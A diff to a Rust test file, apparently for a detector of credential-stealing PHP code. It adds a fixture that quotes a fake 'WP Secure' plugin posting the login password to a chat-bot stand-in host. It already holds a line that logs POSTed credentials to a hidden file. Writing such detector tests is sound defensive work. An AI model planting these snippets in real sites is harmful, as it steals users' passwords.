@@ -1235,6 +1235,12 @@ fn a_login_password_sent_to_another_site_is_collected() {
     let logged =
         "<?php file_put_contents(__DIR__ . '/.ses', $_POST['log'] . ':' . $_POST['pwd'] . \"\\n\", FILE_APPEND);";
     assert!(sinks(logged).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(logged));
+    // fresh78's fake "WP Secure" plugin: the login's password posted to a chat bot by a helper
+    // that puts its parameter in a stream context's content.
+    let posted = "<?php function send($m) { $o = array('http' => array('method' => 'POST', 'content' => http_build_query(array('text' => $m)))); \
+                  file_get_contents('https://api.telegram.example/bot1/sendMessage', false, stream_context_create($o)); }\n\
+                  function on_login($login) { $p = isset($_POST['pwd']) ? $_POST['pwd'] : ''; send(\"User: $login\\nPassword: $p\"); }";
+    assert!(sinks(posted).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(posted));
     // Near-misses: a registration mail to the address the new user typed, WordPress's setup
     // writing the database password into its configuration, an API's settings form tested
     // against that API, and a password's hash prefix checked against a breach list.
@@ -1243,6 +1249,8 @@ fn a_login_password_sent_to_another_site_is_collected() {
         "<?php $pwd = trim($_POST['pwd']); $c = str_replace('password_here', $pwd, $sample); file_put_contents(ABSPATH . 'wp-config.php', $c);",
         "<?php $ch = curl_init('https://api.example.com/login'); curl_setopt($ch, CURLOPT_USERPWD, $_POST['user'] . ':' . $_POST['password']); curl_exec($ch);",
         "<?php $h = strtoupper(sha1($_POST['pwd'])); $r = wp_remote_get('https://api.pwnedpasswords.com/range/' . substr($h, 0, 5));",
+        // A helper posting what it is given, handed the user's name only.
+        &posted.replace("Password: $p", "Logged in"),
     ] {
         assert!(!sinks(s).iter().any(|(w, _)| *w == Why::CredentialCollector), "{s}: {:?}", sinks(s));
     }
